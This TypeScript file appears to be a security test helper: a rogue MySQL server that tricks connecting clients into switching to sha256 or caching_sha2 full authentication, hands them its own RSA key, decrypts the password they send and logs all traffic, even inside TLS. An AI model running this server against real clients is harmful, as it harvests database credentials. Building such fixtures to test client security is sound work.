import { generateKeyPairSync, privateDecrypt, constants, randomBytes } from 'node:crypto';
import net from 'node:net';
import tls from 'node:tls';
import { Duplex } from 'node:stream';

// A rogue MySQL server on loopback, the review's attack: it speaks the protocol far enough to
// get a password. It greets (with or without TLS on offer), and after the client's login it
// switches the authentication to sha256_password or caching_sha2_password "full authentication"
// and hands out its own RSA key: a client that encrypts the password to that key has given it
// away, and the rogue decrypts it. It records every byte it received, in clear or inside TLS.

export interface RogueOptions {
  /** Offer TLS with this certificate (the client decides whether it trusts it). */
  tls?: { key: string; cert: string };
  /** The plugin it switches the login to. */
  switchTo: 'sha256_password' | 'caching_sha2_password';
  /** Where to listen (default 127.0.0.1, a free port): a stopped instance's own ip:port. */
  listen?: { host: string; port: number };
}

export interface Rogue {
  port: number;
  /** Every byte received on the TCP socket (before and during TLS, as on the wire). */
  raw: () => Buffer;
  /** Bytes received inside an established TLS session. */
  inTls: () => Buffer;
  /** The client asked for the rogue's public key. */
  keyRequested: () => boolean;
  /** The password the rogue recovered, if the client gave it away. */
  recovered: () => string | null;
  close: () => Promise<void>;
}

const CAP = {
  LONG_PASSWORD: 0x1,
  FOUND_ROWS: 0x2,
  LONG_FLAG: 0x4,
  CONNECT_WITH_DB: 0x8,
  PROTOCOL_41: 0x200,
  SSL: 0x800,
  TRANSACTIONS: 0x2000,
  SECURE_CONNECTION: 0x8000,
  MULTI_STATEMENTS: 0x10000,
  MULTI_RESULTS: 0x20000,
  PLUGIN_AUTH: 0x80000,
  PLUGIN_AUTH_LENENC: 0x200000,
};

function packet(seq: number, body: Buffer): Buffer {
  const h = Buffer.alloc(4);
  h.writeUIntLE(body.length, 0, 3);
  h[3] = seq & 0xff;
  return Buffer.concat([h, body]);
}

function greeting(withTls: boolean, nonce: Buffer): Buffer {
  let caps = CAP.LONG_PASSWORD | CAP.FOUND_ROWS | CAP.LONG_FLAG | CAP.CONNECT_WITH_DB | CAP.PROTOCOL_41 | CAP.TRANSACTIONS | CAP.SECURE_CONNECTION | CAP.MULTI_RESULTS | CAP.PLUGIN_AUTH | CAP.PLUGIN_AUTH_LENENC;
  if (withTls) caps |= CAP.SSL;
  const low = Buffer.alloc(2);
  low.writeUInt16LE(caps & 0xffff);
  const high = Buffer.alloc(2);
  high.writeUInt16LE(caps >>> 16);
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from('8.0.36-rogue\0'),
    Buffer.from([7, 0, 0, 0]),
    nonce.subarray(0, 8),
    Buffer.from([0]),
    low,
    Buffer.from([33]),
    Buffer.from([2, 0]),
    high,
    Buffer.from([21]),
    Buffer.alloc(10),
    nonce.subarray(8, 20),
    Buffer.from([0]),
    Buffer.from('mysql_native_password\0'),
  ]);
}

/** Split complete packets off a buffer. */
function takePackets(buf: Buffer): { packets: Array<{ seq: number; body: Buffer }>; rest: Buffer } {
  const packets: Array<{ seq: number; body: Buffer }> = [];
  let b = buf;
  while (b.length >= 4) {
    const len = b.readUIntLE(0, 3);
    if (b.length < 4 + len) break;
    packets.push({ seq: b[3]!, body: b.subarray(4, 4 + len) });
    b = b.subarray(4 + len);
  }
  return { packets, rest: b };
}

function xorRotating(a: Buffer, key: Buffer): Buffer {
  return Buffer.from(a.map((x, i) => x ^ key[i % key.length]!));
}

export async function startRogue(o: RogueOptions): Promise<Rogue> {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048, publicKeyEncoding: { type: 'spki', format: 'pem' }, privateKeyEncoding: { type: 'pkcs8', format: 'pem' } });
  const raw: Buffer[] = [];
  const inTls: Buffer[] = [];
  let keyRequested = false;
  let recovered: string | null = null;
  const sockets = new Set<net.Socket>();

  const server = net.createServer((sock) => {
    sockets.add(sock);
    sock.on('close', () => sockets.delete(sock));
    sock.on('error', () => undefined);
    sock.on('data', (d: Buffer) => raw.push(d));
    const nonce = Buffer.from(randomBytes(20).map((x) => (x % 94) + 33));
    const switchNonce = Buffer.from(randomBytes(20).map((x) => (x % 94) + 33));
    let stream: net.Socket | tls.TLSSocket = sock;
    let upgraded = false;
    let buf: Buffer = Buffer.alloc(0);
    let stage: 'login' | 'switched' | 'key-sent' | 'done' = 'login';
    const send = (seq: number, body: Buffer): void => void stream.write(packet(seq, body));
    const onPackets = (d: Buffer): void => {
      const t = takePackets(Buffer.concat([buf, d]));
      buf = t.rest;
      for (const p of t.packets) {
        if (stage === 'login' && p.body.length === 32 && o.tls && !upgraded) {
          upgraded = true;
          // SSLRequest: upgrade, then the login arrives inside TLS.
          // TLS over a duplex fed from the socket: the ClientHello may already be in `t.rest`.
          sock.removeAllListeners('data');
          const wire = new Duplex({ read() {}, write: (chunk: Buffer, _enc, cb) => sock.write(chunk, cb) });
          sock.on('data', (x: Buffer) => (raw.push(x), wire.push(x)));
          if (t.rest.length) wire.push(t.rest);
          const secure = new tls.TLSSocket(wire, { isServer: true, key: o.tls.key, cert: o.tls.cert });
          secure.on('error', () => undefined);
          secure.on('data', (x: Buffer) => {
            inTls.push(x);
            onPackets(x);
          });
          stream = secure;
          buf = Buffer.alloc(0);
          return;
        }
        if (stage === 'login') {
          stage = 'switched';
          send(p.seq + 1, Buffer.concat([Buffer.from([0xfe]), Buffer.from(`${o.switchTo}\0`), switchNonce, Buffer.from([0])]));
        } else if (stage === 'switched') {
          if (o.switchTo === 'caching_sha2_password' && p.body.length === 32) {
            // The scramble token: ask for full authentication.
            send(p.seq + 1, Buffer.from([0x01, 0x04]));
          } else if ((p.body.length === 1 && (p.body[0] === 0x01 || p.body[0] === 0x02)) || p.body.length === 0) {
            keyRequested = true;
            stage = 'key-sent';
            send(p.seq + 1, Buffer.concat([Buffer.from([0x01]), Buffer.from(publicKey)]));
          } else {
            // A password sent as is (only ever acceptable inside verified TLS).
            recovered = p.body.toString('utf8').replace(/\0$/, '');
            stage = 'done';
            send(p.seq + 1, Buffer.from([0xff, 0x15, 0x04, ...Buffer.from('#28000rogue says no')]));
          }
        } else if (stage === 'key-sent') {
          const plain = privateDecrypt({ key: privateKey, oaepHash: 'sha1', padding: constants.RSA_PKCS1_OAEP_PADDING }, p.body);
          recovered = xorRotating(plain, switchNonce).toString('utf8').replace(/\0$/, '');
          stage = 'done';
          send(p.seq + 1, Buffer.from([0xff, 0x15, 0x04, ...Buffer.from('#28000rogue says no')]));
        }
      }
    };
    sock.on('data', onPackets);
    send(0, greeting(Boolean(o.tls), nonce));
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(o.listen?.port ?? 0, o.listen?.host ?? '127.0.0.1', resolve);
  });
  const port = (server.address() as net.AddressInfo).port;
  return {
    port,
    raw: () => Buffer.concat(raw),
    inTls: () => Buffer.concat(inTls),
    keyRequested: () => keyRequested,
    recovered: () => recovered,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}
